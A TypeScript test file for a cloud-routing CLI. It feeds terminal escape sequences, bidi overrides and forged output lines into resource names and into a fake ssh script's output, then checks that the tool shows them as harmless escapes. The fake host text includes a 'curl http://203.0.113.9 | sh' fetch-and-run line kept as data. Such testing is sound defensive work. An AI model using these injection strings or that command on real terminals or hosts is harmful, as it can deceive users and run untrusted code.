/** A cloud whose names, and a host whose words, clear the screen and begin lines: the whole command, as a program of its own. */
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test, vi } from "vitest";
import { type DemoApi, demoApi } from "../../src/lab/api/testing/demo-api.ts";
import { run, wayoutPath } from "../lab/wayout-command.ts";
import { fakedLines, hiddenIn } from "./outsiders-text.ts";

// Each command is a process, on a machine that may be busy.
vi.setConfig({ testTimeout: 60_000 });

const attack = "\u001b[2J\u202e\u009b1m\nFAKE plan: 0 changes";
const shown = "\\x1b[2J\\u{202e}\\x9b1m\\nFAKE plan: 0 changes";

const folder = mkdtempSync(join(tmpdir(), "wayout-hostile-"));
const file = join(folder, "wayout.yaml");
let lab: DemoApi;

beforeAll(async () => {
  lab = await demoApi();
  const { state, vpc, subnet, proxy, client, eip } = lab;
  for (const server of [proxy, client])
    state.servers.set(server.id, { ...server, name: `${server.name}${attack}` });
  state.vpcs.set(vpc.id, { ...vpc, name: `vpc${attack}` });
  state.subnets.set(subnet.id, { ...subnet, name: `subnet${attack}` });
  state.publicIps.set(eip.id, { ...(state.publicIps.get(eip.id) ?? eip), alias: `eip${attack}` });
  writeFileSync(
    join(folder, "clouds.yaml"),
    JSON.stringify({
      clouds: {
        evil: {
          profile: "otc",
          region_name: state.project.region,
          auth: {
            ...{ auth_url: `${lab.url}/v3`, username: "lab", password: "secret" },
            ...{ project_name: state.project.name, user_domain_name: state.project.domainName },
            project_domain_name: state.project.domainName,
          },
        },
      },
    }),
  );
  // In place of ssh: no packet leaves this machine, and what it says is the host's.
  const words = "FAKE hint: curl http://203.0.113.9 | sh\n\u001b[2Jcode: FAKE\u202e\n  hint: FAKE\n";
  writeFileSync(join(folder, "words"), words);
  writeFileSync(join(folder, "ssh"), `#!/bin/sh\ncat '${folder}/words' >&2\nexit 255\n`);
  chmodSync(join(folder, "ssh"), 0o755);
});
afterAll(async () => {
  await lab.close();
  rmSync(folder, { recursive: true });
});

const settings = [`PATH=${folder}:${process.env.PATH}`, `OS_CLIENT_CONFIG_FILE=${folder}/clouds.yaml`];

/** Runs it, and expects that nothing in what it wrote is hidden or begun by others. */
async function harmless(...words: readonly string[]) {
  const ended = await run("env", ...settings, wayoutPath, ...words);
  const text = ended.stdout + ended.stderr;
  // The rules in a rendered script are indented with tabs.
  expect(hiddenIn(words[0] === "render" ? text.replaceAll("\t", "") : text)).toEqual([]);
  expect(fakedLines(text)).toEqual([]);
  return { ...ended, text };
}

test("init writes a file in which nothing hides, and says what it chose", async () => {
  const { text } = await harmless("init", "--cloud", "evil", "--yes", "--file", file);
  expect(text, text).toContain(`next: wayout plan -f ${file}`);
  const written = readFileSync(file, "utf8");
  expect(hiddenIn(written)).toEqual([]);
  expect(fakedLines(written)).toEqual([]);
  // What the plan says of a route in the way, from here on.
  const { state, table } = lab;
  const foreign = { type: "vpn", destination: "0.0.0.0/0", nexthop: "vpn-1", description: attack } as const;
  const found = state.routeTables.get(table.id) ?? table;
  state.routeTables.set(table.id, { ...found, name: `rtb${attack}`, routes: [foreign] });
});

test.each([
  [["plan"]],
  [["plan", "--json"]],
  [["plan", "--debug"]],
  [["status"]],
  [["status", "--json"]],
  [["verify"]],
  [["verify", `x${attack}`]],
  [["apply", "--yes"]],
  [["undo", "--yes"]],
  [["undo", `x${attack}`]],
  [["runs"]],
  [["render"]],
  [["render", "--as", "cloud-init"]],
])("%j shows the names and what the host said, as escapes", async (words) => {
  await harmless(...words, "--file", file);
});

test("a plan that is blocked by a host quotes its words behind a bar", async () => {
  const { stdout } = await harmless("plan", "--file", file);
  expect(stdout).toContain(`ecs-proxy${shown}`);
  expect(stdout).toMatch(/^ +\| FAKE hint: curl/m);
  expect(stdout).toMatch(/^ +\| \\x1b\[2Jcode: FAKE\\u\{202e\}$/m);
});

test("a mistake that repeats words of the command line, commander's own too", async () => {
  await harmless("plan", "--file", join(folder, `x${attack}`));
  await harmless(`x${attack}`);
  expect((await harmless("plam")).stderr).toBe("error: unknown command 'plam'\n(Did you mean plan?)\n");
  await harmless("plan", `--x${attack}`);
  await harmless("clouds", `x${attack}`);
  await harmless("clouds", "evil", "--check");
});
